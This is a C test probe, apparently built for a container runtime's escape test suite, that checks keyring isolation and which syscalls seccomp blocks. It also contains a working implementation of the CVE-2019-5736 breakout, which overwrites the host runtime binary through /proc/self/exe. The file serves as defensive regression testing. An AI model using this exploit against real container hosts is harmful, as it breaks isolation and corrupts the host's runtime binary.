/* A static multi-call probe for the escape suite (escape.bats): each
 * command is one attack, or one fact read from inside a container that the
 * tests do not take from the runtime's word. Built by the tests with
 * `cc -static`.
 *
 *   attack keys-read NAME        print the payload of the key NAME found from
 *                                the session keyring, or "no key"
 *   attack keys-plant NAME       add a user key NAME to the session keyring
 *   attack host-session NAME VALUE CMD...
 *                                (host side) join a new session keyring, add
 *                                NAME=VALUE to it, run CMD, then print
 *                                "planted" if a key "planted" appeared there
 *   attack exe                   CVE-2019-5736, as the ELF interpreter of the
 *                                runtime binary reached via /proc/self/exe:
 *                                hold it O_PATH, outlive the runtime (a gid
 *                                change clears the death signal) and write
 *                                into it once nothing runs it
 *   attack exe-writer FD         the writing half (no mapping of the binary)
 *   attack syscalls              try the calls Docker's seccomp profile
 *                                refuses; one line each: NAME ok|errno text
 *   attack keys-user NAME        the payload of NAME in the user keyring
 *                                (@u: shared by every uid 0 of the host)
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static long
add_key (const char *name, const char *value, int ring)
{
  return syscall (SYS_add_key, "user", name, value, strlen (value), ring);
}

static int
keys_read (const char *name)
{
  char buf[256];
  long id = syscall (SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING,
                     "user", name, 0);
  long n;
  if (id < 0)
    {
      printf ("no key (%s)\n", strerror (errno));
      return 0;
    }
  n = syscall (SYS_keyctl, KEYCTL_READ, id, buf, sizeof buf - 1);
  if (n < 0)
    {
      printf ("key found, unreadable (%s)\n", strerror (errno));
      return 0;
    }
  buf[n < (long) sizeof buf ? n : (long) sizeof buf - 1] = '\0';
  printf ("key %s=%s\n", name, buf);
  return 0;
}

static void
report (const char *name, long r)
{
  printf ("%s %s\n", name, r < 0 ? strerror (errno) : "ok");
}

static int
try_syscalls (void)
{
  char buf[64];
  report ("keyctl", syscall (SYS_keyctl, KEYCTL_GET_KEYRING_ID,
                             KEY_SPEC_USER_KEYRING, 0));
  report ("add_key", add_key ("probe", "x", KEY_SPEC_SESSION_KEYRING));
  report ("unshare-user", syscall (SYS_unshare, 0x10000000 /* CLONE_NEWUSER */));
  report ("userfaultfd", syscall (SYS_userfaultfd, 0));
  memset (buf, 0, sizeof buf);
  buf[0] = 1;  /* PERF_TYPE_SOFTWARE */
  buf[4] = 64; /* size of the attr: any value, the filter decides first */
  report ("perf_event_open", syscall (SYS_perf_event_open, buf, 0, -1, -1, 0));
  report ("personality", syscall (SYS_personality, 0x0040000 /* ADDR_NO_RANDOMIZE */));
  memset (buf, 0, sizeof buf);
  report ("io_uring_setup", syscall (SYS_io_uring_setup, 1, buf));
  report ("getpid", syscall (SYS_getpid));
  return 0;
}

static int
keys_user (const char *name)
{
  char buf[256];
  long id = syscall (SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user",
                     name, 0);
  long n;
  if (id < 0)
    {
      printf ("no key (%s)\n", strerror (errno));
      return 0;
    }
  n = syscall (SYS_keyctl, KEYCTL_READ, id, buf, sizeof buf - 1);
  buf[n > 0 && n < (long) sizeof buf ? n : 0] = '\0';
  printf ("key %s=%s\n", name, buf);
  return 0;
}

static int
host_session (char **argv)
{
  pid_t pid;
  int st;
  if (syscall (SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0
      || add_key (argv[0], argv[1], KEY_SPEC_SESSION_KEYRING) < 0)
    {
      perror ("session keyring");
      return 2;
    }
  pid = fork ();
  if (pid == 0)
    {
      execvp (argv[2], argv + 2);
      _exit (127);
    }
  waitpid (pid, &st, 0);
  if (syscall (SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user",
               "planted", 0)
      >= 0)
    printf ("planted\n");
  return WIFEXITED (st) ? WEXITSTATUS (st) : 1;
}

static int
exe_writer (int fd)
{
  char path[64];
  snprintf (path, sizeof path, "/proc/self/fd/%d", fd);
  for (int i = 0; i < 200; i++)
    {
      int w = open (path, O_WRONLY);
      if (w >= 0)
        {
          if (write (w, "PWNED", 5) == 5)
            printf ("ATTACK: wrote into the runtime binary\n");
          fflush (stdout);
          return 0;
        }
      usleep (50000);
    }
  printf ("ATTACK: never could write (%s)\n", strerror (errno));
  return 0;
}

static int
exe_attack (void)
{
  struct stat st;
  int fd = open ("/proc/self/exe", O_PATH);
  if (fd < 0 || fstat (fd, &st) < 0)
    {
      printf ("ATTACK: no handle on /proc/self/exe (%s)\n", strerror (errno));
      return 1;
    }
  if (dup2 (fd, 9) < 0)
    return 1;
  printf ("ATTACK: holding the runtime binary, inode %lu\n",
          (unsigned long) st.st_ino);
  fflush (stdout);
  /* A credential change clears PR_SET_PDEATHSIG. */
  if (setresgid (1, 1, 1) < 0)
    printf ("ATTACK: setgid failed (%s)\n", strerror (errno));
  if (fork () == 0)
    {
      /* An exec drops the mapping of the runtime binary (ETXTBSY otherwise). */
      execl ("/attack", "attack", "exe-writer", "9", (char *) NULL);
      _exit (1);
    }
  execl ("/bin/sleep", "sleep", "15", (char *) NULL);
  return 1;
}

int
main (int argc, char **argv)
{
  const char *cmd = strrchr (argv[0], '/') ? strrchr (argv[0], '/') + 1 : argv[0];
  /* Run as the ELF interpreter of the runtime binary, argv[0] is the
     runtime's ("/proc/self/exe"), never "attack". */
  if (argc < 2 || strcmp (cmd, "attack") != 0)
    return exe_attack ();
  if (strcmp (argv[1], "keys-read") == 0 && argc == 3)
    return keys_read (argv[2]);
  if (strcmp (argv[1], "keys-plant") == 0 && argc == 3)
    {
      long r = add_key (argv[2], "from-the-container", KEY_SPEC_SESSION_KEYRING);
      printf ("plant: %s\n", r < 0 ? strerror (errno) : "added");
      return 0;
    }
  if (strcmp (argv[1], "syscalls") == 0)
    return try_syscalls ();
  if (strcmp (argv[1], "keys-user") == 0 && argc == 3)
    return keys_user (argv[2]);
  if (strcmp (argv[1], "host-add-user-key") == 0 && argc == 4)
    {
      long r;
      /* The caller's session links the user keyring (as pam_keyinit makes
         it on a login; a session made by a container runtime, as in CI's
         overlay lane, does not): the key is the caller's to find again. */
      syscall (SYS_keyctl, KEYCTL_LINK, KEY_SPEC_USER_KEYRING,
               KEY_SPEC_SESSION_KEYRING);
      r = add_key (argv[2], argv[3], KEY_SPEC_USER_KEYRING);
      printf ("%ld\n", r);
      return r < 0;
    }
  if (strcmp (argv[1], "host-invalidate-user-key") == 0 && argc == 3)
    {
      long id = syscall (SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING,
                         "user", argv[2], 0);
      return id < 0 || syscall (SYS_keyctl, KEYCTL_INVALIDATE, id) < 0;
    }
  if (strcmp (argv[1], "host-session") == 0 && argc >= 5)
    return host_session (argv + 2);
  if (strcmp (argv[1], "exe") == 0)
    return exe_attack ();
  if (strcmp (argv[1], "exe-writer") == 0 && argc == 3)
    return exe_writer (atoi (argv[2]));
  fprintf (stderr, "attack: unknown command\n");
  return 2;
}
